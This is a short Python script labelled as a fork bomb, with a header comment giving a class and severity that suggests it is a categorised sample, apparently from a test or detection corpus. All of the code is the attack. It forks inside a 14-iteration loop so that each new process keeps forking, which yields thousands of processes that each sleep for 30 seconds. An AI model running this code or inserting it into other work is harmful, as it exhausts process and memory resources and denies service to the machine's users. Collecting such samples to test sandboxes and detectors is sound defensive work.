# class: fork bomb; possible: low medium; style: two children each, levels
import os
import time

level = 0
while level < 14:
    if os.fork() == 0:
        pass
    level += 1
time.sleep(30)
